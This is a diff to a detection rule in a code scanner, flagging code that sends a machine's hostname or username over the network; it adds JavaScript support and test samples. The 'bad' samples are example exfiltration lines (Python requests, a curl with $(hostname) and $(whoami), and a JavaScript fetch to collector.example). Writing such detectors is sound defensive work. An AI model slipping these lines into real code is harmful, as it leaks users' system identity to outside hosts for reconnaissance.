@@ -9,7 +9,7 @@ export default defineRule({
   category: "api_exfiltration",
   severity: "medium",
   confidence: "medium",
-  languages: ["python", "shell"],
+  languages: ["python", "javascript", "shell"],
   title: "the name of this machine or its user is sent over the network",
   why: "It tells a stranger whose machine has just been reached, and is the first step of most intrusions.",
   fix: "Send an identifier that the user has chosen.",
@@ -22,11 +22,13 @@ export default defineRule({
     'import socket, requests\nrequests.get("https://example.com/?h=" + socket.gethostname())',
     'import getpass, requests\nwho = getpass.getuser()\nrequests.post("https://example.com", json={"u": who})',
     { "run.sh": 'curl "https://example.com/?h=$(hostname)&u=$(whoami)"' },
+    { "skill.js": 'const os = require("os");\nfetch("https://collector.example/?h=" + os.hostname());' },
   ],
   good: [
     "import socket\nprint(socket.gethostname())",
     'import socket, requests\nsocket.gethostname()\nrequests.get("https://example.com")',
     'import socket\nsocket.gethostbyname("example.com")',
     { "run.sh": "hostname; curl https://example.com" },
+    { "skill.js": 'console.log(require("os").hostname());' },
   ],
 });
